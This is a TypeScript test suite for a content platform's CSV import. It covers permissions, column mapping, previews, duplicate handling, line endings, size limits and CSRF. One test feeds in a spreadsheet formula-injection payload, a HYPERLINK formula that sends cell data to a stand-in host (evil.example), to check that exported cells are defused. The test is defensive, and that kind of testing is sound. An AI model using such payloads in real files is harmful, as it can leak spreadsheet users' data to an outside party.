import { msg } from '../../../core/i18n/message';
import { createTestPlatform, type TestPlatform } from '../../support/test-platform';
import { createApp } from '../../../app/create-app';
import { addMember, makeTenant, makeUser } from '../../support/factories';
import { postForm, signIn, type Agent } from '../../support/http-agent';
import { itemSnapshot, makeItem, postMultipart, setRules, tenantContent } from '../../support/content';
import type { TenantRecord } from '../../../control-plane/tenants/tenant-record';
import { makeCustomRole, setRole } from '../../support/team';
import { changeUserStatus } from '../../../control-plane/users/change-user-status';
import { CLI_OPERATOR } from '../../../control-plane/audit/operator';

const MAPPING = { map_title: '0', map_body: '1', map_channel: '2', map_tags: '3', map_scheduled_at: '4' };
const HEADER = 'Title,Body,Channel,Tags,When';

describe('CSV import', () => {
  let t: TestPlatform;
  let tenant: TenantRecord;
  let admin: Agent;
  let editor: Agent;

  beforeEach(async () => {
    t = await createTestPlatform();
    const app = createApp(t.platform).app;
    tenant = await makeTenant(t.platform, 'studio');
    const adminUser = await makeUser(t.platform, { name: 'Ada Admin' });
    await addMember(t.platform, adminUser, tenant, 'admin');
    admin = await signIn(app, adminUser.email);
    const editorUser = await makeUser(t.platform);
    await addMember(t.platform, editorUser, tenant, 'editor');
    editor = await signIn(app, editorUser.email);
  });
  afterEach(() => t.cleanup());

  const commit = (csv: string, extra: Record<string, string> = {}) =>
    postMultipart(admin, '/t/studio/items/import/commit', { csv, ...MAPPING, on_duplicate: 'skip', ...extra });
  const items = async () => (await tenantContent(t.platform, tenant)).items as Array<Record<string, unknown>>;

  describe('for a role that may import but not write items', () => {
    let importer: Agent;
    beforeEach(async () => {
      const user = await makeUser(t.platform);
      await setRole(t.platform, user, tenant, makeCustomRole(t.platform, tenant, 'Importer', ['content.view', 'data.import']));
      importer = await signIn(createApp(t.platform).app, user.email);
    });

    it('refuses to create items (403) and writes nothing', async () => {
      const res = await postMultipart(importer, '/t/studio/items/import/commit', { csv: `${HEADER}\nNew one,b,blog,,\n`, ...MAPPING, on_duplicate: 'skip' });
      expect(res.status).toBe(403);
      expect(res.text).toContain('cannot create items');
      expect(await items()).toEqual([]);
    });

    it('refuses to rewrite an approved item through a duplicate update, leaving it approved', async () => {
      const approved = await makeItem(t.platform, tenant, { title: 'Same', status: 'approved' });
      const before = await tenantContent(t.platform, tenant);
      const res = await postMultipart(importer, '/t/studio/items/import/commit', { csv: `${HEADER}\nSame,rewritten,,,\n`, ...MAPPING, on_duplicate: 'update' });
      expect(res.status).toBe(403);
      expect(await tenantContent(t.platform, tenant)).toEqual(before);
      expect((await items()).find((i) => i.id === approved.id)?.status).toBe('approved');
    });
  });

  it('offers a column with no header by its position, in the reader’s language', async () => {
    const csv = 'Title,,When\nLaunch post,Hello,2031-03-01 09:30\n';
    expect((await postMultipart(admin, '/t/studio/items/import', { csv })).text).toContain('<option value="1">column 2</option>');
    expect((await postForm(admin, '/account/language', { language: 'fr' }, '/account')).status).toBe(303);
    const french = await postMultipart(admin, '/t/studio/items/import', { csv });
    expect(french.status).toBe(200);
    expect(french.text).toContain('<option value="1">colonne 2</option>');
    expect(french.text).not.toContain('column 2');
  });

  it('reads a pasted CSV, guesses the columns and previews each row without writing anything', async () => {
    const csv = `${HEADER}\nLaunch post,Hello,blog,"news, launch",2031-03-01 09:30\nTeaser,,social,,\n`;
    const res = await postMultipart(admin, '/t/studio/items/import', { csv });
    expect(res.status).toBe(200);
    expect(res.text).toContain('2 rows read');
    expect(res.text).toMatch(/<option value="0" selected>Title<\/option>/);
    expect(res.text).toMatch(/<option value="4" selected>When<\/option>/);
    expect(res.text).toContain('2 to create');
    expect(res.text).toContain('Import 2 items');
    expect(await items()).toEqual([]);
  });

  it('marks the title column’s choice required with the forms’ * and their line saying what it means, in the reader’s language', async () => {
    const csv = `${HEADER}\nLaunch post,Hello,blog,,\n`;
    const res = await postMultipart(admin, '/t/studio/items/import', { csv });
    expect(res.status).toBe(200);
    expect(res.text).toMatch(
      /<label for="map_title">Title <span class="required-mark" aria-hidden="true">\*<\/span><\/label>\s*<select id="map_title" name="map_title" required>/,
    );
    expect(res.text).toMatch(/<label for="map_body">Body<\/label>\s*<select id="map_body" name="map_body">/);
    expect(res.text).toContain('<p class="required-note">Fields marked * are required.</p>');
    expect(res.text).not.toContain('(required)');
    expect((await postForm(admin, '/account/language', { language: 'fr' }, '/account')).status).toBe(303);
    const french = await postMultipart(admin, '/t/studio/items/import', { csv });
    expect(french.text).toContain('<p class="required-note">Les champs marqués * sont obligatoires.</p>');
    expect(french.text).not.toContain('(obligatoire)');
  });

  it('reads an uploaded file in preference to the text box', async () => {
    const res = await postMultipart(
      admin,
      '/t/studio/items/import',
      { csv: '' },
      { field: 'file', name: 'items.csv', content: `${HEADER}\nFrom the file,b,blog,,\n` },
    );
    expect(res.status).toBe(200);
    expect(res.text).toContain('From the file');
    expect(res.text).toContain('1 row read');
  });

  it('refuses a field the import steps do not take with a 400 naming it, importing nothing', async () => {
    const res = await commit(`${HEADER}\nLaunch post,Hello,blog,,\n`, { on_duplicates: 'update' });
    expect(res.status).toBe(400);
    expect(res.text).toMatch(/<strong>[^<]+<\/strong> is not a field of this request \(it takes file, csv, map_title, /);
    expect(await items()).toEqual([]);
  });

  it('imports every row as a draft, with tags, times and an import entry in the history', async () => {
    const res = await commit(`${HEADER}\nLaunch post,Hello,blog,"News, launch",2031-03-01 09:30\nTeaser,,social,,\n`);
    expect(res.status).toBe(303);
    expect(res.headers.location).toBe('/t/studio/items?imported=2&updated=0&skipped=0');
    expect(await items()).toEqual([
      expect.objectContaining({ title: 'Launch post', body: 'Hello', channel: 'blog', status: 'draft', scheduled_at: Date.UTC(2031, 2, 1, 9, 30) }),
      expect.objectContaining({ title: 'Teaser', body: '', channel: 'social', scheduled_at: null }),
    ]);
    const content = await tenantContent(t.platform, tenant);
    expect(content.tags).toEqual([expect.objectContaining({ tag: 'launch' }), expect.objectContaining({ tag: 'news' })]);
    expect(content.history).toEqual([expect.objectContaining({ action: 'import', actor_name: 'Ada Admin' }), expect.objectContaining({ action: 'import' })]);
    expect((await admin.get(res.headers.location)).text).toContain('Import done: 2 created, 0 updated, 0 skipped.');
  });

  it('lists line-numbered errors in the preview and offers to import only the valid rows, or the problems as a download', async () => {
    const csv = `${HEADER}\nGood,b,blog,,\n,missing title,blog,,\nBad time,b,blog,,someday\n`;
    const res = await postMultipart(admin, '/t/studio/items/import/preview', { csv, ...MAPPING, on_duplicate: 'skip' });
    expect(res.status).toBe(200);
    expect(res.text).toContain('line 3: column “Title” is required');
    expect(res.text).toContain('line 4: column “When” is not a date and time');
    expect(res.text).not.toContain('scheduled_at is');
    expect(res.text).toContain('Import the 1 valid item, skip the rest');
    expect(res.text).toContain('/items/import/problems.csv');
  });

  it('shows every failing row in the preview, however far down the file', async () => {
    const rows = Array.from({ length: 40 }, (_, i) => (i === 34 ? ',no title here,blog,,' : `Row ${i},b,blog,,`));
    const res = await postMultipart(admin, '/t/studio/items/import/preview', { csv: `${HEADER}\n${rows.join('\n')}\n`, ...MAPPING, on_duplicate: 'skip' });
    expect(res.text).toContain('<td>36</td>');
    expect(res.text).toContain('no title here');
    expect(res.text).not.toContain('<td>30</td>');
  });

  it('imports the valid rows and skips the rest when asked to, writing one history entry per created item', async () => {
    const csv = `${HEADER}\nGood one,b,blog,,\n,missing title,blog,,\nGood two,b,blog,,\n`;
    const res = await commit(csv, { on_invalid: 'skip' });
    expect(res.status).toBe(303);
    expect(res.headers.location).toBe('/t/studio/items?imported=2&updated=0&skipped=1');
    expect((await items()).map((i) => i.title).sort()).toEqual(['Good one', 'Good two']);
  });

  it('still refuses a file whose rows are all invalid, even when skipping is asked', async () => {
    const res = await commit(`${HEADER}\n,a,blog,,\n,b,blog,,\n`, { on_invalid: 'skip' });
    expect(res.status).toBe(400);
    expect(await items()).toEqual([]);
  });

  it('hands out the rows with problems as a CSV: line, reasons and the row as it was, formulas defused', async () => {
    const csv = `${HEADER}\nGood,b,blog,,\n,=1+1,blog,,\nBad time,b,blog,,someday\n`;
    const res = await postMultipart(admin, '/t/studio/items/import/problems.csv', { csv, ...MAPPING, on_duplicate: 'skip' });
    expect(res.status).toBe(200);
    expect(res.headers['content-disposition']).toContain('import-problems.csv');
    const lines = res.text.trim().split('\n');
    expect(lines[0]).toBe('line,problems,Title,Body,Channel,Tags,When');
    expect(lines.slice(1)).toEqual([
      "3,column “Title” is required,,'=1+1,blog,,",
      '4,"column “When” is not a date and time (use YYYY-MM-DD HH:MM, in UTC)",Bad time,b,blog,,someday',
    ]);
    expect(await items()).toEqual([]);
  });

  it('hands back a cell the export made spreadsheet-safe as it was, not with a second apostrophe', async () => {
    const csv = `${HEADER}\n,'=1+1,blog,,\n`;
    const res = await postMultipart(admin, '/t/studio/items/import/problems.csv', { csv, ...MAPPING, on_duplicate: 'skip' });
    expect(res.text.trim().split('\n')[1]).toBe("2,column “Title” is required,,'=1+1,blog,,");
  });

  it('defuses formulas in the header line of the problems CSV too', async () => {
    const csv = '"=HYPERLINK(""http://evil.example/?""&C2,""Click"")",@cmd,+x,-y\n,a,b,c\n';
    const res = await postMultipart(admin, '/t/studio/items/import/problems.csv', { csv, map_title: '0', on_duplicate: 'skip' });
    expect(res.status).toBe(200);
    expect(res.text.split('\n')[0]).toBe(`line,problems,"'=HYPERLINK(""http://evil.example/?""&C2,""Click"")",'@cmd,'+x,'-y`);
  });

  describe('a file as the browser carries it from step to step', () => {
    // A browser sends a text box back with CRLF line ends, and drops a line end right after its start tag.
    const asBrowserSends = (page: string) => {
      const box = /<textarea name="csv" hidden aria-hidden="true">([\s\S]*?)<\/textarea>/.exec(page)?.[1] ?? '';
      const text = box
        .replace(/^\r?\n/, '')
        .replace(/&#34;/g, '"')
        .replace(/&amp;/g, '&')
        .replace(/&lt;/g, '<')
        .replace(/&gt;/g, '>')
        .replace(/&#39;/g, "'");
      return text.replace(/\r?\n/g, '\r\n');
    };

    it('stays within the size limit at every step when its LF line ends come back as CRLF', async () => {
      // 5,000 rows of 199 or 200 bytes with their line ends: exactly 1,000,000 bytes with LF.
      const rows = Array.from({ length: 5000 }, (_, i) => `Item ${String(i).padStart(4, '0')},${'x'.repeat(i < 4990 ? 189 : 188)}`);
      const csv = `Title,Body\n${rows.join('\n')}`;
      expect(Buffer.byteLength(csv)).toBe(1_000_000);
      const first = await postMultipart(admin, '/t/studio/items/import', { csv });
      expect(first.status).toBe(200);
      const carried = asBrowserSends(first.text);
      expect(Buffer.byteLength(carried)).toBe(1_000_000 + 5000);
      const preview = await postMultipart(admin, '/t/studio/items/import/preview', { csv: carried, map_title: '0', map_body: '1', on_duplicate: 'skip' });
      expect(preview.status).toBe(200);
      expect(preview.text).toContain('5000 to create');
    });

    describe('exported and imported back unchanged, updating duplicates', () => {
      const roundTrip = async () => {
        const exported = await admin.get('/t/studio/items.csv');
        expect(exported.status).toBe(200);
        const first = await postMultipart(admin, '/t/studio/items/import', { csv: '' }, { field: 'file', name: 'items.csv', content: exported.text });
        expect(first.status).toBe(200);
        const choices = { map_title: '1', map_body: '2', map_channel: '3', map_tags: '4', map_scheduled_at: '5', on_duplicate: 'update' };
        return postMultipart(admin, '/t/studio/items/import/commit', { csv: asBrowserSends(first.text), ...choices });
      };

      it('leaves an item with line breaks in its body as it was: no new revision, no history entry', async () => {
        const item = await makeItem(t.platform, tenant, { title: 'Two lines', body: 'First line\nSecond line\n\nAfter a gap', tags: ['news'] });
        const before = await itemSnapshot(t.platform, tenant, item.id);
        const res = await roundTrip();
        expect(res.status).toBe(303);
        expect(await itemSnapshot(t.platform, tenant, item.id)).toEqual(before);
      });

      it('leaves an item stored with CRLF line ends as it was too', async () => {
        const item = await makeItem(t.platform, tenant, { title: 'Old form', body: 'Typed in\r\nan older form' });
        const before = await itemSnapshot(t.platform, tenant, item.id);
        expect((await roundTrip()).status).toBe(303);
        expect(await itemSnapshot(t.platform, tenant, item.id)).toEqual(before);
      });
    });

    it('keeps the line numbers of a file that starts with an empty line', async () => {
      const csv = '\nTitle,Body\n,no title\n';
      const choices = { map_title: '0', map_body: '1', on_duplicate: 'skip' };
      const first = await postMultipart(admin, '/t/studio/items/import/preview', { csv, ...choices });
      const again = await postMultipart(admin, '/t/studio/items/import/preview', { csv: asBrowserSends(first.text), ...choices });
      expect(first.text).toContain('<li>line 3: column “Title” is required</li>');
      expect(again.text).toContain('<li>line 3: column “Title” is required</li>');
    });
  });

  it('reads a file whose lines end in CR alone with the delimiter of its header line', async () => {
    const res = await postMultipart(admin, '/t/studio/items/import/preview', {
      csv: 'Title,Body\rFirst;second;third,a\rMore;semi;colons;here,b\r',
      map_title: '0',
      map_body: '1',
      on_duplicate: 'skip',
    });
    expect(res.status).toBe(200);
    expect(res.text).toContain('2 to create');
  });

  describe('with an author column', () => {
    /** A file of titles and authors only: the other fields not imported. */
    const commitWithAuthors = (csv: string) => commit(csv, { map_body: '', map_channel: '', map_tags: '', map_scheduled_at: '', map_author: '1' });

    it('makes a named member the author, so the importer may approve the item, and notes who imported it', async () => {
      const author = await makeUser(t.platform, { email: 'writer@example.com', name: 'Wanda Writer' });
      await addMember(t.platform, author, tenant, 'editor');
      const res = await commit('Title,Author\nBy Wanda,writer@example.com\nBy me,\n', {
        map_body: '',
        map_channel: '',
        map_tags: '',
        map_scheduled_at: '',
        map_author: '1',
      });
      expect(res.status).toBe(303);
      const content = await tenantContent(t.platform, tenant);
      const byTitle = Object.fromEntries((content.items as Array<{ title: string; created_by: string }>).map((i) => [i.title, i.created_by]));
      expect(byTitle['By Wanda']).toBe(author.id);
      expect(byTitle['By me']).not.toBe(author.id);
      expect(content.history).toContainEqual(
        expect.objectContaining({ action: 'import', actor_name: 'Ada Admin', detail: msg('Imported for {{name}}', { name: 'Wanda Writer' }) }),
      );
    });

    it('refuses an author who is not a member of this workspace, naming the line', async () => {
      const other = await makeTenant(t.platform, 'elsewhere');
      const stranger = await makeUser(t.platform, { email: 'stranger@example.com' });
      await addMember(t.platform, stranger, other, 'owner');
      const res = await commitWithAuthors('Title,Author\nSneaky,stranger@example.com\n');
      expect(res.status).toBe(400);
      expect(res.text).toContain('line 2: author stranger@example.com is not a member of this workspace');
      expect(await items()).toEqual([]);
    });

    it('refuses a member whose account is disabled, as it would a stranger', async () => {
      const gone = await makeUser(t.platform, { email: 'gone@example.com' });
      await addMember(t.platform, gone, tenant, 'editor');
      changeUserStatus(t.platform, { destroyAllForUser: () => 0 }, gone.id, 'disabled', CLI_OPERATOR);
      const res = await commitWithAuthors('Title,Author\nGhost written,gone@example.com\n');
      expect(res.status).toBe(400);
      expect(res.text).toContain('line 2: author gone@example.com is not a member of this workspace');
      expect(await items()).toEqual([]);
    });
  });

  it('imports nothing when one row fails: 400 listing each problem by line', async () => {
    await setRules(t.platform, tenant, { channels: ['blog'] });
    const before = await tenantContent(t.platform, tenant);
    const csv = `${HEADER}\nOne,b,blog,,\nTwo,b,blog,,\nThree,"a body that\nspans lines",radio,,\nFour,b,blog,,\n`;
    const res = await commit(csv);
    expect(res.status).toBe(400);
    expect(res.text).toContain('Nothing was imported');
    expect(res.text).toContain('line 4: column “Channel” must be one of blog');
    expect(await tenantContent(t.platform, tenant)).toEqual(before);
  });

  it('treats a repeated title and time inside the file as an error naming the first line', async () => {
    const res = await commit(`${HEADER}\nSame,a,blog,,2031-01-01 10:00\nSame,b,blog,,2031-01-01T10:00Z\n`);
    expect(res.status).toBe(400);
    expect(res.text).toContain('line 3: repeats line 2');
    expect(await items()).toEqual([]);
  });

  describe('an export imported back unchanged', () => {
    const EXPORT_MAPPING = { map_title: '1', map_body: '2', map_channel: '3', map_tags: '4', map_scheduled_at: '5' };
    const exported = async () => {
      const res = await admin.get('/t/studio/items.csv');
      expect(res.status).toBe(200);
      return res.text;
    };

    beforeEach(async () => {
      await makeItem(t.platform, tenant, { title: '=1+1', body: '-5 degrees, "cold"\nsecond line', channel: 'blog', tags: ['café', 'naïve art'] });
      await makeItem(t.platform, tenant, { title: '@team: launch', body: ' +1 from me', scheduledAt: Date.UTC(2031, 2, 1, 9, 30) });
      await makeItem(t.platform, tenant, { title: "'=quoted already", body: "'plain" });
    });

    it('finds every row a duplicate of its item, formula-like titles too, and creates nothing', async () => {
      const csv = await exported();
      const before = await tenantContent(t.platform, tenant);
      const preview = await postMultipart(admin, '/t/studio/items/import', { csv: '' }, { field: 'file', name: 'items.csv', content: csv });
      expect(preview.text).toContain('0 to create');
      expect(preview.text).toContain('3 to skip');
      const res = await commit(csv, EXPORT_MAPPING);
      expect(res.status).toBe(400);
      expect(res.text).toContain('the file holds nothing to import');
      expect(await tenantContent(t.platform, tenant)).toEqual(before);
    });

    it('finds an item planned to the millisecond (through the API) a duplicate, not a new item a little earlier', async () => {
      const planned = Date.UTC(2031, 2, 1, 9, 30, 15, 250);
      await makeItem(t.platform, tenant, { title: 'Planned by a script', scheduledAt: planned });
      const before = await tenantContent(t.platform, tenant);
      const res = await commit(await exported(), { ...EXPORT_MAPPING, on_duplicate: 'update' });
      expect(res.headers.location).toBe('/t/studio/items?imported=0&updated=4&skipped=0');
      expect(await tenantContent(t.platform, tenant)).toEqual(before);
    });

    it('changes no field of any item when duplicates are updated', async () => {
      const before = await tenantContent(t.platform, tenant);
      const res = await commit(await exported(), { ...EXPORT_MAPPING, on_duplicate: 'update' });
      expect(res.status).toBe(303);
      expect(res.headers.location).toBe('/t/studio/items?imported=0&updated=3&skipped=0');
      expect(await tenantContent(t.platform, tenant)).toEqual(before);
    });
  });

  describe('a row with the same title and scheduled time as an existing item', () => {
    let existingId: number;
    beforeEach(async () => {
      existingId = (await makeItem(t.platform, tenant, { title: 'Weekly digest', body: 'old body', channel: 'blog', scheduledAt: Date.UTC(2031, 0, 5, 8, 0) }))
        .id;
    });
    const csv = `${HEADER}\nWeekly digest,new body,blog,digest,2031-01-05 08:00\nWeekly digest,other week,blog,,2031-01-12 08:00\n`;

    it('is shown as a duplicate in the preview', async () => {
      const res = await postMultipart(admin, '/t/studio/items/import/preview', { csv, ...MAPPING, on_duplicate: 'skip' });
      expect(res.text).toContain(`skip: same as <a href="/t/studio/items/${existingId}">item #${existingId}</a>`);
      expect(res.text).toContain('1 to skip');
    });

    it('is skipped when skip is chosen', async () => {
      const res = await commit(csv, { on_duplicate: 'skip' });
      expect(res.headers.location).toBe('/t/studio/items?imported=1&updated=0&skipped=1');
      const rows = await items();
      expect(rows).toHaveLength(2);
      expect(rows[0]).toMatchObject({ id: existingId, body: 'old body', revision: 1 });
    });

    it('updates the existing item (a new revision) when update is chosen', async () => {
      const res = await commit(csv, { on_duplicate: 'update' });
      expect(res.headers.location).toBe('/t/studio/items?imported=1&updated=1&skipped=0');
      const rows = await items();
      expect(rows).toHaveLength(2);
      expect(rows[0]).toMatchObject({ id: existingId, body: 'new body', revision: 2 });
    });

    it('is an error to update an item already scheduled, and nothing is imported', async () => {
      await t.platform.router.acquire(tenant.id).then((lease) => {
        lease.db.run("update items set status = 'scheduled' where id = ?", [existingId]);
        lease.release();
      });
      const before = await tenantContent(t.platform, tenant);
      const res = await commit(csv, { on_duplicate: 'update' });
      expect(res.status).toBe(400);
      expect(res.text).toContain(`line 2: matches item #${existingId}, which is scheduled and cannot be updated`);
      expect(await tenantContent(t.platform, tenant)).toEqual(before);
    });
  });

  describe('bad input gives a 400 naming the field and writes nothing', () => {
    it.each([
      ['csv', '/t/studio/items/import', { csv: '' }],
      ['csv', '/t/studio/items/import', { csv: 'title\n"unclosed\n' }],
      ['csv', '/t/studio/items/import', { csv: 'title,body\n' }],
      ['csv', '/t/studio/items/import/commit', { ...MAPPING }],
      ['map_title', '/t/studio/items/import/preview', { csv: `${HEADER}\na,b,c,d,e\n`, ...MAPPING, map_title: '' }],
      ['map_body', '/t/studio/items/import/commit', { csv: `${HEADER}\na,b,c,d,e\n`, ...MAPPING, map_body: '9' }],
      ['on_duplicate', '/t/studio/items/import/commit', { csv: `${HEADER}\na,b,c,d,e\n`, ...MAPPING, on_duplicate: 'merge' }],
      ['map_tags', '/t/studio/items/import/preview', { csv: `${HEADER}\na,b,c,d,e\n`, ...MAPPING, map_tags: ['3', '4'] }],
    ])('names %s (%s)', async (field, path, body) => {
      const res = await postMultipart(admin, path, body as Record<string, string | string[]>);
      expect(res.status).toBe(400);
      expect(res.text).toMatch(new RegExp(`id="${field}-error"`));
      expect(res.text).not.toContain('expected string');
      expect(await items()).toEqual([]);
    });

    it('refuses NUL characters in pasted text as in a file, naming the csv field', async () => {
      const res = await commit(`${HEADER}\nNul\u0000title,b\u0000ody,blog,,\n`);
      expect(res.status).toBe(400);
      expect(res.text).toContain('id="csv-error"');
      expect(await items()).toEqual([]);
    });

    it('refuses a file that is not UTF-8 (a Latin-1 export) instead of storing mangled text', async () => {
      const latin1 = Buffer.from('Title\nCaf\u00e9 cr\u00e8me\n', 'latin1');
      const res = await postMultipart(admin, '/t/studio/items/import', {}, { field: 'file', name: 'x.csv', content: latin1 });
      expect(res.status).toBe(400);
      expect(res.text).toContain('id="file-error"');
      expect(res.text).toContain('UTF-8');
    });

    it('shows why a crafted on_invalid value was refused', async () => {
      const res = await postMultipart(admin, '/t/studio/items/import/preview', { csv: 'Title\nA\n', map_title: '0', on_invalid: 'bogus' });
      expect(res.status).toBe(400);
      expect(res.text).toContain('id="on_invalid-error"');
      expect(res.text).toContain('must be reject or skip');
    });

    it.each([
      ['an empty file', ''],
      ['a file of blank lines', '\n  \r\n\n'],
    ])('refuses %s at the file field, with the reason, not at the pasted-text field', async (_label, content) => {
      const res = await postMultipart(admin, '/t/studio/items/import', { csv: '' }, { field: 'file', name: 'items.csv', content });
      expect(res.status).toBe(400);
      expect(res.text).toMatch(/<input id="file" name="file" type="file"[^>]*aria-invalid="true"/);
      expect(res.text).toContain('<p class="field-error" id="file-error">File holds nothing: choose a CSV file whose first line names the columns</p>');
      expect(res.text).not.toContain('id="csv-error"');
    });

    it('refuses a file that is not text', async () => {
      const res = await postMultipart(admin, '/t/studio/items/import', {}, { field: 'file', name: 'x.csv', content: 'title\n\u0000\u0001' });
      expect(res.status).toBe(400);
      expect(res.text).toContain('id="file-error"');
    });

    it.each([
      ['csv', { csv: 'x'.repeat(1_100_000) }, undefined],
      ['file', { csv: '' }, { field: 'file', name: 'big.csv', content: `title\n${'x'.repeat(1_000_001)}` }],
      ['file', { csv: '' }, { field: 'other', name: 'x.csv', content: 'title\nx' }],
    ])('refuses an oversized or misplaced upload, naming %s', async (field, fields, file) => {
      const res = await postMultipart(admin, '/t/studio/items/import', fields, file);
      expect(res.status).toBe(400);
      expect(res.text).toContain(`id="${field}-error"`);
      expect(await items()).toEqual([]);
    });

    it('refuses a multipart form without the CSRF token (403)', async () => {
      const res = await admin.post('/t/studio/items/import').field('csv', `${HEADER}\na,b,c,d,e\n`);
      expect(res.status).toBe(403);
    });
  });

  it('is refused (403) to members without data.import, at every step', async () => {
    expect((await editor.get('/t/studio/items/import')).status).toBe(403);
    for (const step of ['', '/preview', '/commit']) {
      const res = await postMultipart(editor, `/t/studio/items/import${step}`, { csv: `${HEADER}\na,b,c,d,e\n`, ...MAPPING });
      expect(res.status).toBe(403);
    }
    expect(await items()).toEqual([]);
  });
});
